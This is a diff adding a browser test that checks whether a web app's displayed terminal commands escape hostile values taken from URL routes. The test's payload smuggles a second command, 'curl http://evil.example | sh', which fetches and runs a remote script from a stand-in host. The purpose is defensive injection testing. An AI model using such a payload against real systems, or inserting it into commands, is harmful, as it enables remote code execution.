@@ -85,3 +85,26 @@ test.each(HOSTILE.map((text) => [text.slice(0, 40), text]))(
     expect(bench.errors).toEqual([])
   },
 )
+
+test('an address from a stranger makes no command that does more than one (S35)', async () => {
+  const evil = encodeURIComponent("x'; curl http://evil.example | sh; '")
+  const page = await bench.open('#/home')
+  for (const hash of [
+    `#/prepare?change=import&cluster=${evil}`,
+    `#/node/${evil}/${evil}`,
+    `#/rollouts/${evil}/${evil}`,
+    `#/repairs/${evil}/${evil}`,
+    `#/why/${evil}/Node/${evil}`,
+    `#/commits/${evil}`,
+    `#/plan/${evil}`,
+    `#/search?q=${evil}`,
+    `#/past?topic=machines%2F${encodeURIComponent(evil)}`,
+  ]) {
+    await page.evaluate(`location.hash = ${JSON.stringify(hash)}`)
+    await page.locator('main h1').waitFor()
+    await page.locator('.bones').waitFor({ state: 'detached' })
+    const commands = await page.locator('.terminal code').allTextContents()
+    for (const command of commands.filter((text) => text.includes('curl')))
+      expect(command, hash).toContain(`'x'\\''; curl http://evil.example | sh; '\\'''`)
+  }
+})
